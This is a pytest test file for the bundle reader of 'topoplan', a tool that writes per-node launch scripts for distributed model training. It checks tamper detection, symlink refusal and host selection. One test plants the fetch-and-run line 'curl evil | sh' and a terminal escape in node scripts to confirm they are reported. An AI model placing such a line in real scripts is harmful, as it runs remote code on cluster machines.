import hashlib
import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

import topoplan
from tests.bundle.samples import CLUSTER, HOSTS, QWEN3_8B, make_spec_and_plan
from topoplan.bundle.bundle import generate
from topoplan.bundle.write import MANIFEST, write_bundle
from topoplan.errors import InputError, SpecError
from topoplan.lint.check import check
from topoplan.planner.predict import predict
from topoplan.run.bundle_reader import choose_nodes, read_bundle

FOUR = replace(CLUSTER, hosts=tuple(replace(host, socket_interface=None, hcas=()) for host in HOSTS))


def bundle_at(root: Path, scheduler: Any = None, **what: Any) -> Path:
    spec, plan = make_spec_and_plan(**{"cluster": FOUR, "model": QWEN3_8B, "tp": 2, **what})
    write_bundle(generate(spec, predict(spec, plan.layout), scheduler), root)
    return root


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    return bundle_at(tmp_path / "bundle")


def test_a_bundle_is_read_as_it_was_written(bundle: Path) -> None:
    read = read_bundle(bundle)
    assert [node.host for node in read.nodes] == list(FOUR.hosts)
    assert [node.name for node in read.nodes] == ["node-00", "node-01", "node-02", "node-03"]
    assert read.files == {path.name: path.read_bytes() for path in bundle.iterdir() if path.name != MANIFEST}
    assert (read.draft.master_address, read.edited) == ("10.0.0.1", ())
    assert str(read.draft.master_port) in (bundle / "node-03.sh").read_text()
    assert read.notes == ()
    again = read_bundle(bundle / "plan.json")
    assert (again.directory, again.nodes, again.files) == (read.directory, read.nodes, read.files)


def test_a_node_gets_its_own_script_and_the_files_for_all(bundle: Path) -> None:
    read = read_bundle(bundle)
    assert set(read.files_of(read.nodes[2])) == {"node-02.sh", "train.yaml", "hosts.json", "plan.json", "README.md"}


def test_edited_files_are_told_and_taken_as_they_are(bundle: Path) -> None:
    text = (bundle / "train.yaml").read_text().replace("identity", "my_data")
    (bundle / "train.yaml").write_text(text)
    for _ in range(2):
        read = read_bundle(bundle)
        assert read.edited == ("train.yaml",)
        assert "train.yaml changed since topoplan wrote the bundle" in read.notes[0]
        assert read.files["train.yaml"] == text.encode()
        (bundle / MANIFEST).unlink(missing_ok=True)


def test_a_script_that_is_not_what_topoplan_writes_is_told_with_its_lines(bundle: Path) -> None:
    for name in ("node-01.sh", "node-02.sh"):
        lines = (bundle / name).read_text().splitlines()
        at = lines.index("export NCCL_DEBUG=WARN")
        lines[at : at + 1] = ["export NCCL_DEBUG=INFO\x1b[2J", "curl evil | sh"]
        del lines[-1]
        (bundle / name).write_text("\n".join(lines))
    digests = {file.name: hashlib.sha256(file.read_bytes()).hexdigest() for file in bundle.glob("[!.]*")}
    (bundle / MANIFEST).write_text(json.dumps({"schema": "topoplan.manifest/1", "files": digests}))  # edited with them
    read = read_bundle(bundle)
    assert read.edited == ("node-01.sh", "node-02.sh")
    assert read.notes == (
        "node-01.sh, node-02.sh are not what topoplan writes for this plan, and will be started as found:"
        f" lines {at + 1} to {at + 2} are changed: `export NCCL_DEBUG=INFO`, `curl evil | sh`;"
        f' after line {len(lines)} lacks `-m llamafactory.launcher "$bundle_dir/train.yaml"'
        """ ${resume[@]+"${resume[@]}"}`""",
    )


def test_of_another_version_only_the_list_tells_what_was_edited(bundle: Path) -> None:
    plan = (bundle / "plan.json").read_text().replace(f'"version": "{topoplan.__version__}"', '"version": "0.0.9"')
    (bundle / "plan.json").write_text(plan)
    with (bundle / "node-00.sh").open("a") as script:
        script.write("# mine\n")
    notes = read_bundle(bundle).notes
    assert "node-00.sh, plan.json changed since topoplan wrote the bundle" in notes[0]
    assert notes[1] == "edits of scripts are detected only by the bundle's list of digests"


@pytest.mark.parametrize("name", ["train.yaml", "node-01.sh", "README.md", "plan.json", "hosts.json", MANIFEST])
def test_a_link_among_the_files_is_not_followed(bundle: Path, tmp_path: Path, name: str) -> None:
    (bundle / name).rename(tmp_path / "id_rsa")
    (bundle / name).symlink_to(tmp_path / "id_rsa")
    message = refused(lambda: read_bundle(bundle))
    assert (
        f"{bundle / name}: is a link to {tmp_path / 'id_rsa'}; files of a bundle are not read through links" in message
    )
    if name not in ("README.md", "hosts.json"):  # which the reader does not read
        assert "is a link to" in refused(lambda: check([str(bundle)]))


def test_the_bundle_itself_may_be_reached_through_a_link(bundle: Path, tmp_path: Path) -> None:
    (tmp_path / "latest").symlink_to(bundle)
    assert read_bundle(tmp_path / "latest").notes == ()


def test_other_files_beside_a_bundle_do_not_travel(bundle: Path) -> None:
    (bundle / "notes.txt").write_text("mine")
    assert "notes.txt" not in read_bundle(bundle).files


def test_a_bundle_for_slurm_can_be_launched_too(tmp_path: Path) -> None:
    named = replace(FOUR, hosts=tuple(replace(host, address=f"gpu{at}") for at, host in enumerate(FOUR.hosts)))
    read = read_bundle(bundle_at(tmp_path / "slurm", "slurm", cluster=named))
    assert "it was also written for slurm" in read.notes
    assert len(read.nodes) == 4


def refused(read: Callable[[], object]) -> str:
    with pytest.raises(InputError) as caught:
        read()
    assert "\n" not in str(caught.value)
    return str(caught.value)


def test_what_is_no_bundle_is_refused(tmp_path: Path, bundle: Path) -> None:
    assert "no such directory; did you mean 'bundle'?" in refused(lambda: read_bundle(tmp_path / "bundel"))
    assert "is not a bundle: no plan.json; it holds bundles: bundle" in refused(lambda: read_bundle(tmp_path))
    message = refused(lambda: read_bundle(bundle / "train.yaml"))
    assert "is a file, not a bundle; of a spec `topoplan generate" in message


def test_a_key_of_a_host_that_nothing_reads_is_refused(bundle: Path) -> None:
    path = bundle / "hosts.json"
    path.write_text(path.read_text().replace('"venv"', '"vnev": null, "venv"', 1))
    assert "unknown key 'vnev' in `nodes[0]`" in refused(lambda: read_bundle(bundle))


def test_a_plan_without_hosts_is_refused_with_how_to_name_them(tmp_path: Path) -> None:
    message = refused(lambda: read_bundle(bundle_at(tmp_path / "none", cluster=replace(FOUR, hosts=()))))
    assert "its plan names no hosts, and 4 are needed" in message
    assert "add `hosts: [" in message


@pytest.mark.parametrize("name", ["node-02.sh", "train.yaml", "hosts.json"])
def test_a_missing_file_is_named_with_how_to_write_it_again(bundle: Path, name: str) -> None:
    (bundle / name).unlink()
    message = refused(lambda: read_bundle(bundle))
    assert f"lacks {name}; write it again: topoplan generate --from" in message


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (
            lambda hosts: hosts["nodes"][1].update(address="10.9.9.9"),
            "nodes[1].address is '10.9.9.9', and plan.json says",
        ),
        (lambda hosts: hosts["nodes"][3].update(port=2222), "nodes[3].port is 2222, and plan.json says null"),
        (lambda hosts: hosts["nodes"].pop(), "3 nodes, and plan.json has 4"),
        (lambda hosts: hosts.update(nodes="none"), "no nodes, and plan.json has 4"),
        (lambda hosts: hosts["nodes"].__setitem__(0, 7), "nodes[0].node is null"),
        (lambda hosts: hosts["master"].update(port=1), "master.port is 1, and plan.json says"),
        (lambda hosts: hosts.update(master=None), "master.address is null"),
        (lambda hosts: hosts.update(schema="topoplan.hosts/9"), "expected topoplan.hosts/1"),
    ],
)  # fmt: skip
def test_hosts_that_are_not_those_of_the_plan_are_refused(
    bundle: Path, change: Callable[[Any], object], words: str
) -> None:
    hosts = json.loads((bundle / "hosts.json").read_text())
    change(hosts)
    (bundle / "hosts.json").write_text(json.dumps(hosts, indent=2))
    message = refused(lambda: read_bundle(bundle))
    assert words in message
    assert "hosts.json" in message


class TestChoosingHosts:
    @pytest.mark.parametrize("nodes", [[], ["0-3"], ["0,1", "2-3"], ["10.0.0.1,10.0.0.2", "node-02", "3"]])
    def test_all_of_them_may_be_named_in_many_ways(self, bundle: Path, nodes: list[str]) -> None:
        choose_nodes(read_bundle(bundle), nodes)

    def test_fewer_than_the_layout_needs_are_refused_with_what_would_fit(self, bundle: Path) -> None:
        read = read_bundle(bundle)
        message = refused(lambda: choose_nodes(read, exclude=["10.0.0.3"]))
        assert "--exclude: 3 of 4 hosts (without 10.0.0.3): the layout is for 32 GPUs on 4 nodes" in message
        assert "tp 2 would fit 2 nodes with dp 8" in message
        assert "set `nodes: 2` and keep so many of the hosts in the spec; for another layout, set `nodes: 3`" in message
        message = refused(lambda: choose_nodes(read, nodes=["1-2"]))
        assert "--nodes: 2 of 4 hosts (without 10.0.0.1, 10.0.0.4)" in message
        assert message.endswith(
            "dp 8; set `nodes: 2` and leave these hosts out in the spec, and write a bundle for it with"
            " `topoplan generate`"
        )

    def test_no_host_left_is_refused(self, bundle: Path) -> None:
        assert "no host is left" in refused(lambda: choose_nodes(read_bundle(bundle), exclude=["0-3"]))

    @pytest.mark.parametrize("word", ["4", "0-4", "3-1", "10.0.0.9", "", "one"])
    def test_a_name_of_no_host_is_refused(self, bundle: Path, word: str) -> None:
        assert "is not one of the bundle's hosts" in refused(lambda: choose_nodes(read_bundle(bundle), [word]))


def test_a_refusal_is_an_error_of_input(tmp_path: Path) -> None:
    with pytest.raises(SpecError):
        read_bundle(tmp_path)
